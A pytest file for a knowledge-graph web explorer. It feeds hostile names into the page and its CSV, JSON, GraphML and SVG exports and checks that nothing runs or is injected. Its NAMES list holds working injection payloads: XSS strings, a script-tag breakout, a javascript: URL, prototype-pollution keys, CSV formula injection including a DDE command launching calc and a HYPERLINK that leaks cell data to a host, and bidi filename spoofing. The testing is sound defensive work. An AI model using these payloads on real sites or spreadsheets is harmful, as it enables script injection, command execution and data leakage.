"""What the data say is never markup, never a program, and no name of JavaScript's own, anywhere."""

import csv
import io
import json
from pathlib import Path
from typing import TYPE_CHECKING

import networkx as nx
import pytest
from browser import Explorer, saved, state
from lxml import etree
from worlds import HERE, data

from akg import dates
from akg.formats import Selected
from akg.memory import MemoryGraph
from akg.model import Alias, Claim, Entity, Relation, Source
from akg.text import plain
from akg.vocabulary import ANY, Kind, RelationType

if TYPE_CHECKING:
    from playwright.sync_api import Page

HURT = "window.hurt=1"
NAMES = (
    "constructor",
    "__proto__",
    "toString",
    f"<img src=x onerror={HURT}>",
    f"</script><script>{HURT}</script><!--<script>",
    "</style><style>*{display:none}</style>",
    "{{content}} {{script}} ${hurt}",
    "&lt;b&gt;&quot;&#39; ]]> <![CDATA[ <?xml &amp;nbsp;",
    f"\"' onmouseover='{HURT}' ` \\",
    "\u202etxt.exe\u202c \u2066\u2069\u200f שלום",
    "a\x00\x07\x1b[31mb\x85c\u2028d\ufffe\r\ne",
    f'=HYPERLINK("http://example.org/?"&A1;"{HURT}")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "L" * 10_000,
    "e" + "\u0301" * 200,
    "👩‍👩‍👧‍👦 𝔘𝔫𝔦 ﷽",
    f"javascript:{HURT}",
    "a~b&c=d#e,f;g:h%i/j?k",
)
KIND, TYPE, SOURCE = "constructor", "hasOwnProperty", "__proto__"


def graph() -> MemoryGraph:
    """Make a world as no check lets it pass: every id, name and word of it is one of these."""
    bad = NAMES[3]
    whole = data()
    told = Claim(SOURCE, HERE, at=NAMES[3], hedge=NAMES[3], note=NAMES[3])
    claims = (told, told._replace(stance="denies", at=NAMES[4], note=NAMES[4]))
    entities = {
        name: Entity(name, KIND, name, HERE, (Alias(f"{name[:60]} too"),), name, name) for name in NAMES
    }
    relations = tuple(
        Relation(f"{a[:60]}.{b[:60]}", a, TYPE if n else "met", b, claims, HERE,
                 date=dates.parse(str(2000 + n)), text=a, role=b, about=(SOURCE,), note=a)
        for n, (a, b) in enumerate(zip(NAMES, [*NAMES[1:], NAMES[0]], strict=True))
    )  # fmt: skip
    every = frozenset({ANY})
    vocabulary = whole.vocabulary._replace(
        kinds={**whole.vocabulary.kinds, KIND: Kind(KIND, bad, bad, bad, HERE)},
        types={TYPE: RelationType(TYPE, bad, bad, False, "act", every, every, bad, HERE)}
        | dict(whole.vocabulary.types),
    )  # fmt: skip
    source = Source(SOURCE, bad, HERE, author=NAMES[4], publisher=NAMES[8], url=NAMES[-2])
    return MemoryGraph(
        whole._replace(
            entities=entities, relations=relations, vocabulary=vocabulary, sources={SOURCE: source}
        )
    )


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write the page of it."""
    from akg.web import file

    out = tmp_path_factory.mktemp("hostile") / "page.html"
    with out.open("wb") as opened:
        file.write(Selected(graph(), None, NAMES[4], [NAMES[3]]), opened)
    return out


@pytest.fixture
def page(explorer: Explorer, hostile_page: Path) -> "Page":
    """Open it, as a table."""
    return explorer.open(hostile_page, "#tab=table")


def unhurt(page: "Page") -> None:
    """Check that nothing ran, and that nothing was made that the page does not make itself."""
    assert page.evaluate("() => window.hurt === undefined && Object.prototype.hurt === undefined")
    assert page.locator("img, iframe, object, embed, base, [onerror], [onmouseover]").count() == 0
    assert page.locator("script").count() == 2
    assert page.locator("style").count() == 1


def test_every_name_stands_on_the_page_as_it_is(page: "Page") -> None:
    unhurt(page)
    names = page.locator("td.cell-from bdi").evaluate_all("(all) => all.map((one) => one.textContent)")
    assert sorted(name[:60] for name in names) == sorted(plain(name)[:60] for name in NAMES)
    for tab in ("Timeline", "Table"):
        page.get_by_role("tab", name=tab).click()
        unhurt(page)


@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name)[:30])
def test_an_entity_is_found_looked_at_and_linked_to_whatever_its_id_is(
    name: str, explorer: Explorer, hostile_page: Path
) -> None:
    page = explorer.open(hostile_page)
    page.evaluate("(sel) => window.akg.app.go({ sel })", name)
    page = explorer.reload()
    assert state(page, "sel") == name
    panel = page.get_by_role("complementary", name="Evidence")
    assert panel.get_by_role("heading", level=2).locator("bdi").text_content() == plain(name)
    for fold in panel.locator("summary").all():
        fold.click()
    panel.get_by_role("button", name="Open:").first.click()
    assert panel.get_by_role("link").count() == 0  # the address of the source is a program
    page.get_by_role("combobox", name="Search").fill(plain(name)[:40])
    page.get_by_role("combobox", name="Search").press("Enter")
    unhurt(page)


def test_what_is_saved_is_as_harmless(page: "Page") -> None:
    count = len(NAMES)
    rows = list(csv.DictReader(io.StringIO(saved(page, "CSV table").decode(), newline="")))
    assert len(rows) == count
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))] == []
    assert len(json.loads(saved(page, "JSON"))["facts"]) == count
    graph = nx.read_graphml(io.BytesIO(saved(page, "GraphML")), force_multigraph=True)
    assert (len(graph), graph.number_of_edges()) == (count, count)
    svg = etree.fromstring(saved(page, "SVG picture"), etree.XMLParser(huge_tree=True))
    assert {etree.QName(one).localname for one in svg.iter("*")} & {"script", "img", "foreignObject"} == set()
    unhurt(page)
